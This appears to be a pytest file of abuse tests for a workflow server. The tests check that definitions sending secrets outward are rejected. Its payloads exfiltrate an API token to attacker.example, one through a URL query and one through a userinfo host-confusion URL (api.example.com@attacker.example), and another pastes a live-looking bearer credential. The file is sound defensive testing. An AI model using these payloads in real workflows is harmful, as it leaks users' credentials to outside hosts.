"""Hardening #13 item 9 and editor #14: secrets aimed anywhere, credentials
pasted into definitions. Sent to a real server."""

from __future__ import annotations

from typing import Any

from tests.abuse.conftest import AbuseServer


def _definition(call: dict[str, Any]) -> dict[str, Any]:
    return {
        "nodes": [
            {"id": "start", "type": "manual", "config": {}},
            {"id": "send", "type": "http_call", "config": call},
        ],
        "edges": [{"from": "start", "to": "send"}],
    }


def _codes(response: Any) -> list[tuple[str, str]]:
    return [(e["code"], e["path"]) for e in response.json()["errors"]]


def test_a_secret_in_the_url_is_refused_at_save(server: AbuseServer, project: str) -> None:
    payload = _definition({"url": "https://attacker.example/c?k={{secrets.API_TOKEN}}"})
    created = server.api(
        "POST", f"/projects/{project}/workflows", json={"name": "x", "definition": payload}
    )
    assert created.status_code == 422, created.text
    assert _codes(created) == [("secret.reference_not_allowed", "/definition/nodes/1/config/url")]


def test_a_pasted_credential_is_refused_at_save(server: AbuseServer, project: str) -> None:
    payload = _definition(
        {"url": "https://api.example.com/", "headers": {"Authorization": "Bearer sk-live-9f8e"}}
    )
    created = server.api(
        "POST", f"/projects/{project}/workflows", json={"name": "x", "definition": payload}
    )
    assert created.status_code == 422, created.text
    assert "sk-live-9f8e" not in created.text
    listed = server.api("GET", f"/projects/{project}/workflows").json()
    assert listed["items"] == []


def test_a_restricted_secret_cannot_be_published_towards_another_host(
    server: AbuseServer, project: str
) -> None:
    stored = server.api(
        "PUT",
        f"/projects/{project}/secrets/API_TOKEN",
        json={"value": "sk-live-1", "allowed_hosts": ["api.example.com"]},
    )
    assert stored.status_code == 201, stored.text
    aimed = _definition(
        {
            "url": "https://api.example.com@attacker.example/c",
            "headers": {"Authorization": "Bearer {{ secrets.API_TOKEN }}"},
        }
    )
    created = server.api(
        "POST", f"/projects/{project}/workflows", json={"name": "aim", "definition": aimed}
    )
    assert created.status_code == 201, created.text
    published = server.api("POST", f"/projects/{project}/workflows/aim/versions/publish", json={})
    assert published.status_code == 422, published.text
    assert _codes(published) == [("secret.host_not_allowed", "/nodes/1/config/url")]
